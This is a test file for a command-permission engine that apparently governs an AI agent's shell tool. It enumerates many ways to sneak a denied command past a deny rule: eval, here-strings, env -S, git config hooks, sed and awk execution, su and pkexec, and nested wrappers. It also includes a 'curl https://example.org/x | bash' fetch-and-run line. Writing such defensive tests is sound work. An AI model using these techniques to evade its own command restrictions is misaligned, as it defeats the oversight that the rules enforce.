import { afterAll, beforeAll, describe, expect, it, test } from 'vitest';
import { PolicyWorld } from '../support/policyWorld.ts';
import { fc } from '../support/properties.ts';
import type { WorldCase } from './report.ts';

const rules = `
[[rule]]
toolName = "run_shell_command"
commandPrefix = ["git push", "touch"]
decision = "deny"
priority = 200
`;

/** The title is the command line; it is classified in the mode that allows all. */
type Case = WorldCase & { readonly kind: 'deny' | 'ask' | 'allow' };

function cases(kind: Case['kind'], source: Case['source'], ...titles: readonly string[]): readonly Case[] {
  return titles.map(title => ({ title, source, kind }));
}

const unknownPrograms = [
  ...cases('ask', 'report', 'T=touch; $T f', '${T:-touch} f', '/usr/bin/tou?h f', '/usr/bin/t[o]uch f'),
  ...cases('deny', 'report', '$(echo touch) f', '`echo touch` f'),
  ...cases(
    'ask',
    'trial',
    '"$T" f',
    'a=to b=uch; $a$b f',
    'env $T f',
    'nice $T f',
    'xargs $T',
    'find . -exec $T {} ;',
    'bash -c "$T f"',
    "bash -c '$0 f' touch",
    'bash -c \'"$@"\' _ touch f',
    '{to,uch} f',
    'for p in touch; do $p f; done',
    'tou* f',
    'x() { "$@"; }; x ls',
    'ls | xargs -I{} sh -c {}',
    'ls | xargs -I% %',
    'nice --odd 5 touch f',
  ),
];

const carriers = [
  ...cases(
    'deny',
    'report',
    "env -S 'touch f'",
    "env -iS 'A=1 touch f'",
    "env --split-string='touch f'",
    "echo 'touch f' | bash",
    'echo touch f | sh',
    "printf 'touch f' | sh",
    "printf '%s\\n' 'touch f' | bash -s",
    "trap 'touch f' EXIT",
    'trap -- "touch f" 0 INT',
    'flock l touch f',
    "flock -w 5 l -c 'touch f'",
    "script -c 'touch f' log",
    "script -qec 'touch f' /dev/null",
    'setpriv --no-new-privs touch f',
    'chroot . touch f',
    'chroot --userspec=a:b . /usr/bin/touch f',
    'unshare -r touch f',
    'taskset 1 touch f',
    'taskset -c 0,1 touch f',
    "su -c 'touch f'",
    "su - ada -c 'touch f'",
    'runuser -u ada -- touch f',
    "runuser ada -c 'touch f'",
    "git -c alias.x='!touch f' x",
    "sed '1e touch f' a",
    "alias p='touch f'; p",
  ),
  ...cases(
    'deny',
    'trial',
    "bash <<< 'touch f'",
    'bash <<EOF\ntouch f\nEOF\n',
    "cat <<'EOF' | bash\ntouch f\nEOF\n",
    'nsenter -t 1 -m touch f',
    'chrt -f 10 touch f',
    'prlimit --nofile=10 touch f',
    'numactl --cpunodebind=0 touch f',
    'setarch x86_64 -R touch f',
    'systemd-run --user touch f',
    'xvfb-run -a touch f',
    'fakeroot touch f',
    'faketime yesterday touch f',
    'proxychains4 -q touch f',
    'pkexec touch f',
    'gosu ada touch f',
    'cpulimit -l 10 -- touch f',
    'valgrind --leak-check=full touch f',
    'ltrace -f touch f',
    'perf stat -e cycles touch f',
    'dbus-run-session -- touch f',
    'cross-env A=1 touch f',
    'direnv exec . touch f',
    'ssh-agent touch f',
    'stdbuf -oL touch f',
    'busybox touch f',
    'toybox touch f',
    '/lib64/ld-linux-x86-64.so.2 /usr/bin/touch f',
    'parallel touch ::: f',
    "parallel 'touch {}' ::: f",
    "hyperfine --warmup 3 'touch f'",
    "concurrently -k 'npm test' 'touch f'",
    "watchexec -e ts 'touch f'",
    "nodemon --exec 'touch f'",
    "watch -n 1 'touch f'",
    "npx -c 'touch f'",
    "npm exec -c 'touch f'",
    'poetry run touch f',
    'git rebase --exec "touch f" main',
    "git rebase -x 'touch f' main",
    'git bisect run touch f',
    "git bisect run sh -c 'touch f'",
    "git submodule foreach 'touch f'",
    "git filter-branch --tree-filter 'touch f' HEAD",
    "git -c core.pager='touch f' log",
    "git -c core.sshCommand='touch f' fetch",
    "git -c credential.helper='!touch f' fetch",
    "git difftool -x 'touch f'",
    "GIT_SSH_COMMAND='touch f' git fetch",
    "PAGER='touch f' man ls",
    "GIT_EDITOR='touch f' git commit",
    "sed -e p -e '1e touch f' a",
    "sed -n '/x/e touch f' a",
    'awk \'BEGIN { system("touch f") }\'',
    'awk \'{ print | "touch f" }\' a',
    'awk \'BEGIN { "touch f" | getline x }\'',
    'find . -name a -execdir touch {} ;',
    'fd a -x touch',
    'tar -xf a.tar --to-command="touch f"',
    "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='touch f' .",
    "split --filter='touch f' a",
    "ssh -o ProxyCommand='touch f' host",
    "rsync -e 'touch f' a host:b",
    "source /dev/stdin <<< 'touch f'",
    "eval 'touch f'",
    'x() { touch f; }; x',
    'sudo -u ada touch f',
    'coproc touch f',
    'exec -a ls touch f',
    'export GIT_EDITOR="touch f"',
    "PROMPT_COMMAND='touch f'",
    "git -c core.fsmonitor='touch f' status",
    'watch -x touch f',
    "$'\\x74ouch' f",
    "eval 'to''uch f'",
    'bash -lc "touch f"',
    "git config alias.p '!touch f'",
    'npx --yes touch@latest f',
  ),
  ...cases(
    'ask',
    'trial',
    'curl https://example.org/x | bash',
    'cat a | sh',
    'base64 -d a | sudo bash -s',
    'cat <<EOF | bash\n$X\nEOF\n',
    'bash <<EOF\n$X\nEOF\n',
    'bash -c "$X"',
    'eval "$X"',
    'trap "$X" EXIT',
    'alias p="$X"',
    'env -S "$X"',
    'flock l -c "$X"',
    'git -c alias.x="$X" x',
    "sed 's/.*/touch f/e' a",
    "awk '{ system($1) }' a",
    "awk '{ print | $1 }' a",
    'parallel ::: "touch f"',
    'cat jobs | parallel',
    'python3 -c "import os; os.system(\'touch f\')"',
    "node -e \"require('child_process').execSync('touch f')\"",
    "perl -e 'exec q(touch f)'",
    "ruby -e '`touch f`'",
    'python3 <<EOF\nimport subprocess\nEOF\n',
    "make -f - <<< $'x:\\n\\ttouch f'",
    "make --eval='x:;touch f' x",
    "vim -c '!touch f' a",
    "tmux new-session -d 'touch f'",
    "echo 'touch f' | at now",
    'GIT_SSH_COMMAND="$X" git fetch',
    'my-wrapper touch f',
    './run-it --quiet touch f',
    'some-tool -- git push origin',
    "capsh -- -c 'touch f'",
    'fnm exec --using=20 touch f',
    'nvm exec 20 touch f',
    "ruby -e '%x(touch f)'",
    'lua -e "os.execute(\'touch f\')"',
    "fish -c 'touch f'",
    'BASH_ENV=x bash -c ls',
    'bash <(echo touch f)',
    'strace -o log touch f',
    'git config alias.p push; git p',
  ),
];

const harmless = cases(
  'allow',
  'trial',
  'ls; echo touch f',
  'git status',
  'git commit -m "$MSG"',
  'npm test',
  'make build',
  './build.sh',
  'bash build.sh',
  'python3 tool.py touch',
  'python3 -c "print(1)"',
  'python3 -c "import platform; print(platform.system())"',
  "python3 -c \"import sqlite3; sqlite3.connect('a').execute('select 1')\"",
  "node -e 'console.log(/a/.exec(1))'",
  'git -c core.fsmonitor=false status',
  'git -c core.hooksPath=/dev/null commit -m x',
  'unknown-tool --message "touch f"',
  'unknown-tool run f',
  "node -e 'console.log(`x`)'",
  "perl -pe 's/a/b/' a",
  "sed -i 's/a/e/' a",
  "sed -i 's/touch/e/g; /e/d' a",
  "sed -n '/e touch/p' a",
  "sed 's|e|f|;s,a,b,' a",
  "sed '/a/a e touch f' a",
  "awk '{ print $1 }' a",
  'awk \'{ print > "b" }\' a',
  "awk '$1 || $2' a",
  'GIT_EDITOR=true git rebase --continue',
  'PAGER=cat git log',
  'EDITOR=: git commit',
  'git -c core.pager=cat log',
  'git -c user.name=x commit -m x',
  "trap - EXIT; trap '' INT",
  "trap 'rm -f a.tmp' EXIT",
  "alias ll='ls -l'; ls",
  'flock l ls',
  'flock 9',
  'taskset -p 1234',
  'timeout 5 npm test',
  'env A=1 npm test',
  "env -S 'A=1 ls'",
  'echo ls | bash',
  'xargs rm < a',
  'find . -name a -exec rm {} ;',
  'cd "$DIR" && ls "$FILE"',
  'X=$(ls) && echo "$X"',
  'brew install touch',
  'man touch',
  'which touch',
  'command -v touch',
  'docker run alpine touch f',
  'tmux ls',
  'ssh host ls',
  'tar -xzf a.tgz',
  'vim a',
  'git bisect run npm test',
  "git rebase -x 'npm test' main",
  "hyperfine 'ls'",
  'parallel gzip ::: a b',
);

async function make(text: string, interactive = true): Promise<PolicyWorld> {
  return PolicyWorld.make({ interactive, files: { 'home/.folio/policies/mine.toml': text } });
}

let world: PolicyWorld;
let free: PolicyWorld;
let alone: PolicyWorld;
beforeAll(async () => {
  world = await make(rules);
  free = await make('');
  alone = await make(rules, false);
});
afterAll(() => Promise.all([world, free, alone].map(each => each.dispose())));

describe('a rule that forbids reaches what a command starts', () => {
  it.each([...unknownPrograms, ...carriers, ...harmless])('$kind: $title', async ({ title, kind }) => {
    expect(await world.run(title, 'yolo')).toMatchObject({ kind });
  });
});

describe('without a window', () => {
  const asked = [...unknownPrograms, ...carriers].filter(({ kind }) => kind === 'ask');
  it.each(asked)('what cannot be known is denied: $title', async ({ title }) => {
    expect(await alone.run(title, 'yolo')).toMatchObject({ kind: 'deny' });
  });
});

/** What is refused or asked about whatever the rules say. */
const always = new Set(['$(echo touch) f', '`echo touch` f']);

describe('without a rule about commands', () => {
  const all = [...unknownPrograms, ...carriers, ...harmless].filter(({ title }) => !always.has(title));
  it.each(all)('nothing changes: $title', async ({ title }) => {
    expect(await free.run(title, 'yolo')).toMatchObject({ kind: 'allow' });
  });

  it('a rule about other tools asks about no command', async () => {
    const other = await make('[[rule]]\ntoolName = "write_file"\ndecision = "deny"\npriority = 5\n');
    expect(await other.run('T=touch; $T f', 'yolo')).toMatchObject({ kind: 'allow' });
    await other.dispose();
  });

  it('nor does one that counts in another mode', async () => {
    const other = await make(`${rules}modes = ["plan"]\n`);
    expect(await other.run('T=touch; $T f', 'yolo')).toMatchObject({ kind: 'allow' });
    await other.dispose();
  });
});

test('a pattern over the arguments counts as a rule about commands', async () => {
  const matching = await make(
    '[[rule]]\ntoolName = "run_shell_command"\nargsPattern = \'"command":"touch\'\ndecision = "deny"\npriority = 5\n',
  );
  expect(await matching.run('touch f', 'yolo')).toMatchObject({ kind: 'deny' });
  expect(await matching.run("trap 'touch f' EXIT", 'yolo')).toMatchObject({ kind: 'deny' });
  expect(await matching.run('T=touch; $T f', 'yolo')).toMatchObject({ kind: 'ask' });
  expect(await matching.run('npm test', 'yolo')).toMatchObject({ kind: 'allow' });
  await matching.dispose();
});

test('a rule that asks counts as one that forbids', async () => {
  const asking = await make(rules.replace('"deny"', '"ask_user"'));
  expect(await asking.run('T=touch; $T f', 'yolo')).toMatchObject({ kind: 'ask' });
  expect(await asking.run("trap 'touch f' EXIT", 'yolo')).toMatchObject({ kind: 'ask' });
  await asking.dispose();
});

test('a rule that allows a carrier allows nothing that it starts', async () => {
  const allowing = await make(
    '[[rule]]\ntoolName = "run_shell_command"\ncommandPrefix = ["flock", "setpriv", "script", "touch"]\ndecision = "allow"\npriority = 5\n',
  );
  expect(await allowing.run('flock l npm test')).toMatchObject({ kind: 'ask' });
  expect(await allowing.run("script -c 'npm test' log")).toMatchObject({ kind: 'ask' });
  expect(await allowing.run('flock l touch f')).toMatchObject({ kind: 'allow' });
  await allowing.dispose();
});

const fronts = [
  'flock l',
  'setpriv --reset-env',
  'taskset 1',
  'chrt -b 0',
  'nice -n 5',
  'timeout 5',
  'env A=1',
  'unshare -r',
  'prlimit --nofile=5',
  'command',
  'xvfb-run',
  'systemd-run',
];
const scripts = [
  'bash -c',
  'script -c',
  'su -c',
  'flock l -c',
  'env -S',
  'watch',
  'eval',
  'git bisect run sh -c',
];

test('however carriers are nested, the rule is met', async () => {
  const nested = fc
    .tuple(
      fc.array(fc.constantFrom(...fronts), { maxLength: 3 }),
      fc.option(fc.constantFrom(...scripts), { nil: undefined }),
      fc.array(fc.constantFrom(...fronts), { maxLength: 2 }),
    )
    .map(([outer, script, inner]) => {
      const command = [...inner, 'touch f'].join(' ');
      const isFirst = script === 'eval' && outer.length > 0;
      return [...outer, script === undefined || isFirst ? command : `${script} '${command}'`].join(' ');
    });
  await fc.assert(
    fc.asyncProperty(nested, async command => {
      expect(await world.run(command, 'yolo'), command).toMatchObject({ kind: 'deny' });
    }),
  );
});
